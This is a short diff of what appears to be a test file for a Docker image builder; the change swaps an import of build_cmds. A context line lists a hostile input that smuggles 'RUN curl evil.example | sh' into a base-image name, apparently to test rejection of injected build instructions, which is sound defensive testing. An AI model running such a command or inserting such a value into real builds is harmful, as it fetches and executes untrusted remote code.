@@ -16,7 +16,7 @@ from builders.deployment import Deployment
 from builders.errors import RenderError
 from builders.image_build import prepare_build, rebase_dockerfile, save_deployment
 from builders.render import render_artifacts
-from optimiser.commands import build_cmds
+from cli import build_cmds
 
 HOSTILE = [
     "debian:12\nRUN curl evil.example | sh",
